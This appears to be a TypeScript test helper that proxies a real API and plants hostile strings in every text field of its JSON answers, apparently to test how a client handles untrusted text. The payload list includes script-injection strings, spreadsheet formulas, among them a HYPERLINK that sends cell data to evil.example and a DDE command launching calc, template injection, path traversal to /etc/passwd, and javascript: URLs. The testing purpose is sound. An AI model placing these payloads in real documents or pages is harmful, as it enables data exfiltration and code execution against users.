import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { once } from 'node:events'

/** What a text from elsewhere may be: each would do harm where it is not taken as text. */
export const payloads = [
  `<img src=x onerror="window.__hacked='img'"><script>window.__hacked='script'</script>`,
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `+cmd|'/c calc'!A0`,
  `-2+3`,
  `@SUM(1+1)`,
  `\t=1+1`,
  `\u202Egnp.exe\u2066 turned`,
  `bell\u0007 zero\u0000 escape\u001b[31m`,
  `{{constructor.constructor('window.__hacked=1')()}}`,
  `../../../etc/passwd`,
  `"><svg/onload=window.__hacked='svg'>`,
] as const

/**
 * Values that are no text: ids, times, words of a fixed set, which the contract's schemas refuse
 * otherwise.
 */
const fixed =
  /(^|_)ids?$|_at$|_utc$|_date$|status|^state$|tier|kind|type$|timezone|cursor|scope|^source$|action|^key$|revision|event/

/**
 * Every text field of an answer with a payload before it, whatever the resource; the longest one a
 * megabyte, once.
 */
export function spoil(value: unknown, field = '', turn = { n: 0, long: false }): unknown {
  if (Array.isArray(value)) return value.map((one) => spoil(one, field, turn))
  if (value !== null && typeof value === 'object')
    return Object.fromEntries(
      Object.entries(value).map(([name, one]) => [name, spoil(one, name, turn)]),
    )
  if (typeof value !== 'string' || value === '' || fixed.test(field)) return value
  if (/url|link|domain|website/.test(field))
    return `javascript:window.__hacked='${field}'//${value}`
  const payload = payloads[turn.n++ % payloads.length] ?? ''
  if (field !== 'notes' || turn.long) return `${payload} ${value}`
  turn.long = true
  return `${payload} ${'a megabyte of words '.repeat(50_000)}`
}

/**
 * A service whose every text is hostile, at an address of its own; ids, times and states are the
 * real one's.
 */
export async function hostileProxy(target: string): Promise<{ url: string; close(): void }> {
  const to = new URL(target)
  const own = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const server = createServer((incoming, outgoing) => {
    const { host: _host, 'accept-encoding': _encoding, ...headers } = incoming.headers
    const onward = request(
      { host: to.hostname, port: to.port, path: incoming.url, method: incoming.method, headers },
      (answer) => {
        const parts: Buffer[] = []
        answer.on('data', (part: Buffer) => parts.push(part))
        answer.on('end', () => {
          const body = Buffer.concat(parts)
          const json =
            answer.headers['content-type']?.includes('json') &&
            (incoming.url ?? '').startsWith('/api/v2') &&
            (answer.statusCode ?? 500) < 300
          // What the service says of itself (RFC 8414) names its address: here it is this one.
          const sent = json
            ? Buffer.from(JSON.stringify(spoil(JSON.parse(body.toString('utf8')))))
            : Buffer.from(body.toString('utf8').replaceAll(to.origin, own()))
          const {
            'content-length': _length,
            'transfer-encoding': _transfer,
            ...kept
          } = answer.headers
          outgoing
            .writeHead(answer.statusCode ?? 502, { ...kept, 'content-length': sent.byteLength })
            .end(sent)
        })
      },
    )
    onward.on('error', () => outgoing.destroy())
    incoming.pipe(onward)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: own(),
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}
